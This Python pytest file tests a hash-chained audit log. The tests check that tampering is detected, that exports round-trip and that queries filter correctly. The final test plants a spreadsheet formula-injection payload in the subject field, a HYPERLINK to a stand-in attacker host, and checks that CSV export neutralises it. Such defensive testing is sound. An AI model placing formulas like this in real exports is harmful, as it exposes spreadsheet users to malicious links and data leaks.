from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import text

from pimbot.store.audit_log import (
    GENESIS_HASH,
    append_event,
    export_events,
    query_events,
    verify_chain,
)
from pimbot.store.database import Database

T0 = datetime(2026, 11, 2, 9, 0, 0, 123456, tzinfo=UTC)


async def _append(db: Database, n: int, start: int = 0) -> None:
    for i in range(start, start + n):
        async with db.transaction() as session:
            await append_event(
                db,
                session,
                at=T0 + timedelta(minutes=i),
                actor=f"user{i % 3}@example.com",
                action="activation.requested",
                subject=f"req-{i}",
                detail={"user": f"user{i % 3}@example.com", "role": "prod-db", "n": i},
            )


async def _sql(db: Database, statement: str, **params: object) -> None:
    async with db.transaction() as session:
        await session.execute(text(statement), params)


async def test_a_chain_of_events_verifies(db: Database) -> None:
    await _append(db, 12)
    report = await verify_chain(db)
    assert report.ok, report.problem
    assert report.checked == 12
    assert report.first_bad_seq is None


async def test_the_first_event_links_to_genesis_and_each_next_to_the_one_before(
    db: Database,
) -> None:
    await _append(db, 3)
    events = sorted(await query_events(db), key=lambda e: e.seq)
    assert [e.seq for e in events] == [1, 2, 3]
    assert events[0].prev_hash == GENESIS_HASH
    assert events[1].prev_hash == events[0].hash
    assert events[2].prev_hash == events[1].hash


async def test_an_empty_log_verifies(db: Database) -> None:
    report = await verify_chain(db)
    assert report.ok and report.checked == 0


async def test_an_edited_middle_event_is_named(db: Database) -> None:
    await _append(db, 10)
    fifth = text("SELECT actor, detail, outcome FROM audit_events WHERE seq = 5")
    async with db.read() as session:
        original = (await session.execute(fifth)).one()
    for column, forged in [
        ("actor", "mallory@example.com"),
        ("detail", '{"user": "mallory@example.com", "role": "prod-db", "n": 4}'),
        ("outcome", "denied"),
    ]:
        await _sql(db, f"UPDATE audit_events SET {column} = :v WHERE seq = 5", v=forged)
        report = await verify_chain(db)
        assert not report.ok, column
        assert report.first_bad_seq == 5
        assert "event 5" in report.problem
        assert report.checked == 4
        restored = getattr(original, column)
        if isinstance(restored, dict):
            restored = json.dumps(restored)
        await _sql(db, f"UPDATE audit_events SET {column} = :v WHERE seq = 5", v=restored)
        assert (await verify_chain(db)).ok


async def test_a_deleted_middle_event_is_named_by_the_next(db: Database) -> None:
    await _append(db, 10)
    await _sql(db, "DELETE FROM audit_events WHERE seq = 6")
    report = await verify_chain(db)
    assert not report.ok
    assert report.first_bad_seq == 7
    assert "6" in report.problem


async def test_a_deleted_last_event_leaves_a_shorter_valid_chain(db: Database) -> None:
    # Truncating the tail cannot be seen from inside the chain; the count shows it.
    await _append(db, 5)
    await _sql(db, "DELETE FROM audit_events WHERE seq = 5")
    report = await verify_chain(db)
    assert report.ok and report.checked == 4


async def test_an_anchor_kept_outside_catches_removal_of_the_newest_events(db: Database) -> None:
    await _append(db, 5)
    head = await verify_chain(db)
    assert head.ok and head.head_seq == 5
    anchor = (head.head_seq, head.head_hash)
    assert (await verify_chain(db, anchor)).ok
    await _append(db, 2, start=5)
    assert (await verify_chain(db, anchor)).ok, "a longer chain still holds the anchor"
    await _sql(db, "DELETE FROM audit_events WHERE seq >= 5")
    report = await verify_chain(db, anchor)
    assert not report.ok and report.first_bad_seq == 5 and "missing" in report.problem


async def test_swapped_event_contents_are_detected(db: Database) -> None:
    await _append(db, 8)
    columns = "at, actor, action, subject, outcome, detail, prev_hash, hash"
    async with db.read() as session:
        rows = {
            r.seq: r
            for r in (
                await session.execute(
                    text(f"SELECT seq, {columns} FROM audit_events WHERE seq IN (3, 4)")
                )
            ).all()
        }
    assignments = ", ".join(f"{c} = :{c}" for c in columns.split(", "))
    async with db.transaction() as session:  # hashes are unique: park one first
        await session.execute(text("UPDATE audit_events SET hash = 'parked' WHERE seq = 3"))
        for target, source in ((4, 3), (3, 4)):
            params = {c: getattr(rows[source], c) for c in columns.split(", ")}
            if isinstance(params["detail"], dict):
                params["detail"] = json.dumps(params["detail"])
            update = f"UPDATE audit_events SET {assignments} WHERE seq = :seq"
            await session.execute(text(update), {"seq": target, **params})
    report = await verify_chain(db)
    assert not report.ok
    assert report.first_bad_seq == 3


async def test_a_garbage_hash_is_named(db: Database) -> None:
    await _append(db, 6)
    await _sql(db, "UPDATE audit_events SET hash = :h WHERE seq = 2", h="f" * 64)
    report = await verify_chain(db)
    assert not report.ok
    assert report.first_bad_seq == 2


async def test_an_edit_with_a_recomputed_hash_is_named_by_its_mac(db: Database) -> None:
    # Unkeyed, the next event's link caught it (at 4); the MAC names the edited event itself.
    from pimbot.store.audit_log import event_hash

    await _append(db, 6)
    events = {e.seq: e for e in await query_events(db)}
    forged = events[3]
    new_hash = event_hash(
        seq=3, at=forged.at, actor="mallory@example.com", action=forged.action,
        subject=forged.subject, outcome=forged.outcome, detail=forged.detail,
        prev_hash=forged.prev_hash,
    )
    await _sql(
        db,
        "UPDATE audit_events SET actor = 'mallory@example.com', hash = :h WHERE seq = 3",
        h=new_hash,
    )
    report = await verify_chain(db)
    assert not report.ok
    assert report.first_bad_seq == 3
    assert "does not match its MAC" in report.problem


async def test_an_event_in_a_rolled_back_transaction_is_not_kept(db: Database) -> None:
    await _append(db, 2)
    with pytest.raises(RuntimeError):
        async with db.transaction() as session:
            await append_event(db, session, at=T0, actor="a@example.com", action="x")
            raise RuntimeError("boom")
    await _append(db, 1, start=2)
    report = await verify_chain(db)
    assert report.ok and report.checked == 3


@pytest.mark.postgres
async def test_concurrent_appends_form_one_chain(db: Database) -> None:
    if db.is_sqlite:
        pytest.skip("the advisory lock is PostgreSQL's; SQLite writers are serial")

    async def one(i: int) -> None:
        async with db.transaction() as session:
            await asyncio.sleep(0)
            await append_event(
                db, session, at=T0, actor=f"u{i}@example.com", action="concurrent"
            )
            await asyncio.sleep(0.001 * (i % 3))  # hold the lock while others wait

    await asyncio.gather(*(one(i) for i in range(20)))
    report = await verify_chain(db)
    assert report.ok, report.problem
    assert report.checked == 20
    actors = {e.actor for e in await query_events(db, limit=100)}
    assert actors == {f"u{i}@example.com" for i in range(20)}


async def test_export_jsonl_round_trips_every_field(db: Database) -> None:
    await _append(db, 5)
    async with db.transaction() as session:
        await append_event(
            db, session, at=T0, actor="zoë@example.com", action="note",
            detail={"reason": "naïve, \"quoted\", multi\nline"},
        )
    out = io.StringIO()
    count = await export_events(db, "jsonl", out)
    lines = out.getvalue().splitlines()
    assert count == 6 and len(lines) == 6
    records = [json.loads(line) for line in lines]
    stored = {e.seq: e for e in await query_events(db)}
    for record in records:
        event = stored[record["seq"]]
        assert record["hash"] == event.hash
        assert record["prev_hash"] == event.prev_hash
        assert record["actor"] == event.actor
        assert record["detail"] == event.detail
        assert datetime.fromisoformat(record["at"]) == event.at
    assert records[-1]["detail"]["reason"] == "naïve, \"quoted\", multi\nline"
    assert records[0]["at"] == "2026-11-02T09:00:00.123456Z"


async def test_export_csv_round_trips_every_field(db: Database) -> None:
    await _append(db, 4)
    out = io.StringIO()
    count = await export_events(db, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert count == 4 and len(rows) == 4
    assert list(rows[0]) == [
        "seq", "at", "actor", "action", "subject", "outcome", "detail", "prev_hash", "hash",
        "key_id", "mac",
    ]
    stored = {e.seq: e for e in await query_events(db)}
    for row in rows:
        event = stored[int(row["seq"])]
        assert row["hash"] == event.hash
        assert row["subject"] == event.subject
        assert json.loads(row["detail"]) == event.detail


async def test_export_since_keeps_only_later_events(db: Database) -> None:
    await _append(db, 6)
    out = io.StringIO()
    count = await export_events(db, "jsonl", out, since=T0 + timedelta(minutes=4))
    assert count == 2
    assert [json.loads(line)["seq"] for line in out.getvalue().splitlines()] == [5, 6]


async def test_query_by_person_finds_actor_subject_and_detail_mentions(db: Database) -> None:
    async with db.transaction() as session:
        for actor, subject, detail in [
            ("bob@example.com", "req-1", {}),
            ("alice@example.com", "bob@example.com", {}),
            ("policy", "assignment-9", {"user": "bob@example.com", "role": "prod-db"}),
            ("carol@example.com", "req-2", {"user": "carol@example.com"}),
            ("carol@example.com", "req-3", {"reason": "ask bob@example.com"}),
            ("carol@example.com", "req-4", {"user": "bobby@example.com"}),
        ]:
            await append_event(
                db, session, at=T0, actor=actor, action="x", subject=subject, detail=detail
            )
    found = await query_events(db, subject="bob@example.com")
    assert [e.seq for e in found] == [3, 2, 1]  # newest first
    by_role = await query_events(db, subject="prod-db")
    assert [e.seq for e in by_role] == [3]


async def test_query_filters_by_actor_since_and_limit(db: Database) -> None:
    await _append(db, 9)
    by_actor = await query_events(db, actor="user1@example.com")
    assert [e.seq for e in by_actor] == [8, 5, 2]
    recent = await query_events(db, since=T0 + timedelta(minutes=6))
    assert [e.seq for e in recent] == [9, 8, 7]
    assert [e.seq for e in await query_events(db, limit=2)] == [9, 8]


async def test_a_like_wildcard_in_the_query_matches_literally(db: Database) -> None:
    async with db.transaction() as session:
        await append_event(db, session, at=T0, actor="a", action="x", detail={"role": "db_x"})
        await append_event(db, session, at=T0, actor="a", action="x", detail={"role": "dbax"})
    assert [e.seq for e in await query_events(db, subject="db_x")] == [1]


async def test_a_naive_time_is_refused_and_nothing_is_written(db: Database) -> None:
    with pytest.raises(ValueError, match="naive"):
        async with db.transaction() as session:
            await append_event(db, session, at=datetime(2026, 1, 1), actor="a", action="x")
    assert (await verify_chain(db)).checked == 0


async def test_csv_export_defuses_spreadsheet_formulas(db: Database) -> None:
    async with db.transaction() as session:
        await append_event(db, session, at=datetime(2026, 11, 2, 9, tzinfo=UTC),
                           actor="bob@example.com", action="audit.refused",
                           subject='=HYPERLINK("http://evil.example/?x","Click")')
    out = io.StringIO()
    await export_events(db, "csv", out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["subject"].startswith("'=HYPERLINK")
